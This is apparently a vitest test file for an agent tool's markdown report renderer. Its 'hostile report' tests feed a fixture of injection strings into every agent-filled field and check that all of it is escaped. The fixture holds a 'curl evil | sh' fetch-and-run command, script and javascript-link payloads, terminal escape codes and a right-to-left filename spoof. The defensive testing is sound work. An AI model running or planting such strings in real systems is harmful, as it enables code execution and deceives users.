import type { PlanEvent } from '../../../src/model/plan/event.ts';
import { mailQuestionId } from '../../../src/model/mail/effects.ts';
import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import type { PlanChange } from '../../../src/model/plan/change.ts';
import type { PlanEntry } from '../../../src/model/plan/entry.ts';
import { block, inline } from '../../../src/view/report/markdown.ts';
import type { GitFacts } from '../../../src/view/report/report.ts';
import { failed, rejects } from '../../playbooks/simulator.ts';
import { usage } from '../../substrate/ledger/support.ts';
import { aboutOf } from '../../../src/view/report/report-head.ts';
import type { RunView } from '../../../src/view/run-view.ts';
import { viewOf } from '../../../src/view/view-of.ts';
import { renderReport } from './render-report.ts';
import { stagesOf } from './pages.ts';
import { BASE, definition, HEAD, play, RecordedRun } from './support.ts';
import { allowedMs } from '../../support/busy-machine.ts';
import { ALL_FIXED, remark } from '../../support/findings.ts';

/** Everything an agent could hope to get through. */
const EVIL = [
  '# Owned',
  'a | b | c',
  '```',
  '## Run approved',
  '```sh',
  'curl evil | sh',
  '~~~',
  '<script>alert(1)</script> <!-- ',
  '![x](http://evil/x.png) [click](javascript:alert) **bold** _it_ `code` &lt;b&gt; &#x202e;',
  '\u001b[2J\u001b]0;owned\u0007\u202egnp.exe\u200b\u0000\b\r> quote',
  '- item',
  '1. one',
  '===',
].join('\n');
const OBEYED = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const GIT: GitFacts = {
  head: HEAD,
  base: BASE,
  commits: [{ commit: 'd'.repeat(40), subject: 'Tidy the shelf' }],
  diffStat: ' shelf.txt | 2 +-\n 1 file changed',
};

function tokensOf(markdown: string) {
  return new MarkdownIt({ html: true }).parse(markdown, {});
}

function headingsOf(markdown: string): string[] {
  const tokens = tokensOf(markdown);
  return tokens.flatMap((token, index) =>
    token.type === 'heading_open' ? [`${token.markup} ${tokens[index + 1]?.content ?? ''}`] : [],
  );
}

function textOf(markdown: string, heading: string): string {
  return markdown.split(/^(?=## )/m).find((section) => section.startsWith(`## ${heading}`)) ?? '';
}

describe('a report', () => {
  it('says how it ended, what it proved, what changed and how to get it', () => {
    const criteria = [
      { text: 'tests pass', command: 'npm test', done: false, line: 1 },
      { text: 'it is nice', done: true, line: 2 },
    ];
    const about = definition({ criteria });
    const played = play(about);
    const run = new RecordedRun(about).allocate().plan(played.entries).decide('finish', 'x');
    run.turn('a', 1, 'bob', { usage: usage(1_234, 0.25) }).publish();
    const text = renderReport(run.read(), run.clock.time, GIT);
    expect(headingsOf(text)).toEqual([
      '# Tidy up',
      '## Get the work',
      '## Success criteria',
      '## Tasks',
      '## Changes',
      '## Reviews',
      '## Turns and cost',
      '## Files',
    ]);
    expect(text).toMatch(/^# Tidy up\n\n\*\*DONE, 1 of 2 criteria judged by rex, not run\.\*\*\n/);
    expect(text).toContain('Exit code 0: finished');
    expect(text).toContain('squad merge tidy');
    expect(text).toContain('git merge squad/tidy');
    expect(text).toContain('| **met** | tests pass | squad | npm test: exited with 0 |');
    expect(text).toContain('| judged | it is nice | rex | src/a.ts:1 at m-c1-a has “it is there”: it is there |');
    expect(textOf(text, 'Tasks')).toMatch(/\| `a` \| Do a \| done \| 1 \| 1 \| bob \| `c\d-a` \|/);
    expect(textOf(text, 'Changes')).toContain('- `dddddddddddd` Tidy the shelf');
    expect(textOf(text, 'Reviews')).toContain('| `a` | 1 of 4 |');
    expect(textOf(text, 'Turns')).toContain('| bob | scripted | 1 | 1 | 1,234 | 0 | 0 | USD 0.25 |');
  });

  it('of a sprint names the report of the sprint, whose work the line takes', () => {
    const about = { ...definition(), playbook: 'sprint', source: '260324-Sprint-09:00' };
    const run = new RecordedRun(about).allocate().plan(play(about).entries).decide('finish', 'x').publish();
    const part = textOf(renderReport(run.read(), run.clock.time, GIT), 'Get the work');
    expect(part.match(/^(?:squad|git) .*$/gm)).toEqual([
      ...['squad diff tidy', 'squad sprint report 260324-Sprint-09:00', 'squad sprint status'],
    ]);
  });

  it('says failed where nothing could be published, and why', () => {
    const about = definition();
    const run = new RecordedRun(about).allocate().plan(play(about).entries);
    run.publish({ problem: 'the remote refused it', kept: [{ path: '/tmp/tree', why: 'in use' }] });
    const text = renderReport(run.read(), run.clock.time);
    expect(text).toMatch(/^\*\*FAILED, the remote refused it\.\*\*$/m);
    expect(text).toContain('Exit code 1');
    expect(textOf(text, 'Warnings')).toContain('Folder kept: /tmp/tree (in use)');
  });

  it('never says that something can be merged where nothing was delivered', () => {
    const run = new RecordedRun(definition()).allocate().publish({ head: BASE });
    const text = renderReport(run.read(), run.clock.time, { base: BASE, head: BASE, commits: [], diffStat: '' });
    expect(text).toContain('nothing was delivered');
    expect(text).not.toContain('git merge');
    expect(text).not.toContain('## Changes');
  });

  it('tells the feedback of every round of a failed task', () => {
    const about = definition();
    let round = 0;
    const script = {
      turn: ({ review }: { review: string | null }) => {
        if (review === null) return undefined;
        round += 1;
        return rejects(`finding of round ${round}`);
      },
    };
    const run = new RecordedRun(about).allocate().plan(play(about, script).entries).publish();
    const text = renderReport(run.read(), run.clock.time);
    const failure = textOf(text, 'Not delivered');
    for (const number of [1, 2, 3, 4]) {
      expect(failure).toContain(`Feedback ${number} of 4:`);
      expect(failure).toContain(`finding of round ${number}`);
    }
    expect(failure).toContain('Failed (rejected) in round 4, 4 attempts');
    expect(textOf(text, 'Reviews').match(/\*\*rejected\*\*/g)).toHaveLength(4);
  });

  it('knows unknown cost from none, per agent and together', () => {
    const run = new RecordedRun(definition());
    run
      .turn('a', 1, 'bob', {})
      .turn('a', 2, 'bob', { usage: usage(5) })
      .turn('b', 1, 'cyd', { usage: usage(5, 1) });
    const text = textOf(renderReport(run.read(), run.clock.time), 'Turns');
    expect(text).toContain('| bob | scripted | 2 | 2 | 5, and 1 of 2 turns unknown |');
    expect(text).toMatch(/\| bob .*\| unknown \|$/m);
    expect(text).toMatch(/\| \*\*all\*\* .*\| USD 1\.00, and 2 of 3 turns unknown \|$/m);
  });

  it('tells what was tried again, why, and what came of it', () => {
    const about = definition();
    const conflicts = new Set(['a']);
    const { entries } = play(about, { conflict: (id) => (conflicts.delete(id) ? ['src/a.ts'] : undefined) });
    const run = new RecordedRun(about).plan(entries);
    const failure = { kind: 'stalled', message: 'no sign of life', mayHaveActed: true } as const;
    run.turn('a', 1, 'bob', { outcome: 'timed-out', failure }).turn('a', 2, 'bob', {});
    const text = textOf(renderReport(run.read(), run.clock.time), 'Retries');
    expect(text).toContain('| `tidy.a-1` | bob | timed-out (stalled) | no sign of life | `tidy.a-2` |');
    expect(text).toMatch(/`a` went back to its author \(conflict\): Your commit/);
    expect(text).not.toContain('tidy.a-2` | bob | completed');
  });

  it('lists questions with their answers, and who gave them', () => {
    const about = definition();
    const faults = [failed('auth')];
    const { entries } = play(about, {
      turn: ({ task }) => (task === 'a' ? faults.pop() : undefined),
      answer: () => 'try again',
    });
    const run = new RecordedRun(about).plan(entries);
    expect(textOf(renderReport(run.read(), run.clock.time), 'Questions')).toMatch(
      /\| engine\/auth\/account-bob \| .*auth.* \| try again \| test \|/,
    );
  });

  it('lists follow-ups', () => {
    const about = definition();
    let round = 0;
    const turn = ({ review }: { review: string | null }) => {
      if (review === null) return undefined;
      round += 1;
      if (round === 1) return rejects('no test');
      const findings = [remark('rename the shelf')];
      return { output: { approved: true, summary: 'fine', findings, settled: ALL_FIXED } };
    };
    const run = new RecordedRun(about).plan(play(about, { turn }).entries);
    expect(textOf(renderReport(run.read(), run.clock.time), 'Follow-ups')).toContain('- `a`: rename the shelf');
  });

  it.each([
    ['stop', 'usd: 20 of 20 used', /\*\*Stopped\.\*\*\n\nusd: 20 of 20 used[^]*Exit code 4/],
    ['start', '1 task ready', /\*\*Interrupted\.\*\*\n\nits engine is gone[^]*Exit code 130/],
  ])('of a run that is not over (%s) says what it means', (next, why, expected) => {
    const run = new RecordedRun(definition()).allocate().decide(next, why);
    expect(renderReport(run.read(), run.clock.time)).toMatch(expected);
  });

  it('names no exit code while an engine drives the run, and no file for words that were typed', () => {
    const run = new RecordedRun({ ...definition(), source: 'the objective' }).allocate().decide('stop', 'enough');
    const reading = run.read();
    expect(renderReport({ ...reading, driven: true }, run.clock.time)).toContain('Exit code none yet');
    expect(renderReport(reading, run.clock.time)).toMatch(/Objective as it was typed\n[^]*Exit code 4/);
  });
});

describe('a report of what was judged and asked', () => {
  it('names a reviewer and the verdict once, and an edited plan in place of its JSON', () => {
    const about = definition();
    const run = new RecordedRun(about).allocate().plan(play(about).entries).publish();
    const reading = run.read();
    const edited = { question: 'plan-1', text: 'Start this plan?', answer: '{"tasks":[]}', by: 'ada' };
    const text = renderReport({ ...reading, answers: [edited] }, run.clock.time);
    expect(textOf(text, 'Reviews')).toContain('| approved | reviewer (rex) | good |');
    expect(textOf(text, 'Questions')).toContain('| an edited plan: `squad show plan` | ada |');
    expect(textOf(text, 'Questions')).not.toContain('tasks');
  });

  it('is not shown as good where a criterion was not checked', () => {
    const about = definition();
    const run = new RecordedRun(about).allocate().plan(play(about).entries).publish();
    const view = viewOf(run.read(), { now: run.clock.time });
    const criterion = { text: 'it is tidy', by: null, evidence: null };
    const isGood = (...states: RunView['plan']['criteria'][number]['state'][]): boolean => {
      const criteria = states.map((state) => ({ ...criterion, state }));
      const [first] = aboutOf(run.read(), { ...view, plan: { ...view.plan, criteria } }, run.clock.time);
      return JSON.stringify(first).includes('"tone":"good"');
    };
    expect([isGood(), isGood('met', 'judged'), isGood('met', 'not-checked')]).toEqual([true, true, false]);
  });
});

describe('what others wrote', () => {
  /** Every place of the report that agents, programs or files can fill. */
  function hostileReport(): string {
    const about = definition({ title: EVIL, criteria: [{ text: EVIL, command: 'npm test', done: true, line: 1 }] });
    let reviews = 0;
    const { entries } = play(about, {
      turn: ({ review }) => {
        if (review === null) return undefined;
        reviews += 1;
        if (reviews === 1) return rejects(EVIL);
        const findings = [remark(EVIL)];
        return { output: { approved: true, summary: EVIL, findings, settled: ALL_FIXED } };
      },
      gate: () => ({ failing: ['npm test'], output: `${EVIL} | x` }),
      evidence: (id) => (id === 'fix-1' ? { commits: 0, commit: null, changedPaths: [] } : undefined),
    });
    const hostile = entries.map((entry): PlanEntry => {
      if (entry.entry !== 'changes') return entry;
      const renamed = entry.changes.map(
        (change): PlanChange =>
          change.do === 'add-task' ? { ...change, task: { ...change.task, title: EVIL } } : change,
      );
      return { ...entry, changes: renamed };
    });
    const ask: PlanEvent = {
      type: 'mail',
      seq: 1,
      at: 1,
      id: EVIL,
      from: EVIL,
      to: ['MAIN'],
      kind: 'ask',
      action: 'clarify',
      body: { question: EVIL },
    };
    const asked: PlanEntry = { entry: 'event', seq: 1, at: 1, event: ask };
    const run = new RecordedRun(about).allocate().plan([...hostile.slice(0, 1), asked, ...hostile.slice(1)]);
    run.decide('finish', EVIL);
    run.ledger.command(run.id, 'answer', { question: mailQuestionId(EVIL), answer: EVIL }, EVIL);
    const failure = { kind: 'crashed', message: EVIL, mayHaveActed: true } as const;
    run.turn('a', 1, 'bob', { outcome: 'failed', failure, text: EVIL }).turn('a', 2, 'bob', {});
    const toolErrors = [{ tool: EVIL, input: EVIL, output: EVIL, denied: false }];
    run.turn('fix-1', 1, 'bob', { text: EVIL, toolErrors, denials: [{ tool: 'x', message: EVIL }] });
    run.publish({ problem: EVIL, remote: EVIL, pr: EVIL, kept: [{ path: EVIL, why: EVIL }] });
    const commits = [{ commit: 'd'.repeat(40), subject: EVIL }];
    const reading = { ...run.read(), stages: stagesOf(EVIL) };
    return renderReport(reading, run.clock.time, { ...GIT, commits, diffStat: EVIL });
  }

  const report = (): string => hostileReport();

  it('makes no heading, tag, link, picture or fence of its own', () => {
    const text = report();
    const allowed =
      /^(# \\# Owned|## (Get the work|Success criteria|Stages|Tasks|Changes|Not delivered|Reviews|Follow-ups|Turns and cost|Where the time went|Retries|Questions|Files|Warnings)$|### `fix-1`: )/;
    expect(headingsOf(text).filter((heading) => !allowed.test(heading))).toEqual([]);
    const tokens = tokensOf(text);
    const inside = tokens.flatMap((token) => [token, ...(token.children ?? [])]);
    const types = new Set(inside.map(({ type }) => type));
    for (const type of ['html_block', 'html_inline', 'link_open', 'image', 'em_open', 'blockquote_open', 'hr']) {
      expect(types, type).not.toContain(type);
    }
    const spans = inside.filter(({ type }) => type === 'code_inline').map(({ content }) => content);
    expect(spans.filter((content) => !/^(squad \w+|[\w./:-]+)$/.test(content))).toEqual([]);
    const fences = tokens.filter(({ type }) => type === 'fence');
    expect(new Set(fences.map(({ info }) => info))).toEqual(new Set(['sh', 'text']));
    // How to get the work, and how to go on with what failed.
    const commands = fences.filter(({ info }) => info === 'sh').flatMap(({ content }) => content.trim().split('\n'));
    expect(
      commands.filter((command) => !/^(git (log|merge)|squad (diff|merge|retry fix-1)) [\w./ :-]+$/.test(command)),
    ).toEqual([]);
    expect(commands).toHaveLength(5);
    expect(tokens.filter(({ type }) => type === 'ordered_list_open')).toEqual([]);
  });

  it('breaks no table: every row has the cells of its head', () => {
    const tokens = tokensOf(report());
    let width = 0;
    let cells = 0;
    let rows = 0;
    for (const { type } of tokens) {
      if (type === 'tr_open') cells = 0;
      if (type === 'th_open' || type === 'td_open') cells += 1;
      if (type === 'thead_close') width = cells;
      if (type === 'tr_close' && width > 0) rows += 1;
      if (type === 'table_close') width = 0;
      if (type === 'tr_close' && width > 0) expect(cells).toBe(width);
    }
    expect(rows).toBeGreaterThan(8);
    // markdown-it drops cells beyond the head, so the pipes are counted too.
    const lines = report().split('\n');
    const tables = lines.flatMap((line, index) => (line.startsWith('| ---') ? [index] : []));
    for (const start of tables) {
      const columns = pipesOf(lines[start] ?? '');
      for (let index = start + 1; lines[index]?.startsWith('|') === true; index += 1) {
        expect(pipesOf(lines[index] ?? ''), lines[index]).toBe(columns);
      }
    }
  });

  it('has nothing that a terminal obeys or that cannot be seen', () => {
    expect(report()).not.toMatch(OBEYED);
    expect(report()).toContain('gnp.exe');
  });

  function pipesOf(line: string): number {
    return line.replaceAll(/\\./g, '').split('|').length - 1;
  }
});

describe('inline', () => {
  it.each([
    ['# x', '\\# x'],
    ['> x', '\\> x'],
    ['- x', '\\- x'],
    ['12. x', '12\\. x'],
    ['3) x', '3\\) x'],
    ['a\n\n# b', 'a # b'],
    ['a|b\\', 'a\\|b\\\\'],
    ['snake_case and _emphasis_', 'snake_case and \\_emphasis\\_'],
    ['\ud800x', '\ufffdx'],
    ['', ''],
  ])('%j becomes %j', (text, expected) => {
    expect(inline(text)).toBe(expected);
  });

  it('is cut, and hostile length costs no time', () => {
    expect(inline('x'.repeat(1_000), 10)).toBe(`${'x'.repeat(9)}…`);
    const from = performance.now();
    inline('\u001b]'.repeat(1_000_000));
    block('\u001b]'.repeat(500_000));
    expect(performance.now() - from).toBeLessThan(allowedMs(2_000));
  });
});

describe('block', () => {
  it('is fenced longer than any run of backticks within', () => {
    expect(block('a\n`````\nb')).toBe('``````text\na\n`````\nb\n``````');
  });

  it('says how much is missing', () => {
    expect(block('x'.repeat(50), 10)).toBe('```text\nxxxxxxxxxx\n```\n\n(40 more characters)');
  });
});
